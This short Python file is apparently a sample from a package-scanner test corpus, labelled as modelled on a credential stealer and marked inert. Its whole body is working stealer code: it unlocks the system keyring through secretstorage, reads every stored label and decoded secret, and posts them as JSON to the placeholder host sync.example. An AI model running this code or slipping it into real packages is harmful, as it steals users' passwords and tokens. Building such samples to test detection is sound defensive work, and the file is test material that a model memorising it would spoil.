# pkgguard corpus 357 (credentials), modelled on [stealer-profile]; inert, never run.
import json

import requests
import secretstorage

conn = secretstorage.dbus_init()
collection = secretstorage.get_default_collection(conn)
if collection.is_locked():
    collection.unlock()
items = [
    {"label": item.get_label(), "attrs": item.get_attributes(), "secret": item.get_secret().decode(errors="ignore")}
    for item in collection.get_all_items()
]
requests.post("https://sync.example/k", data=json.dumps(items), timeout=10)
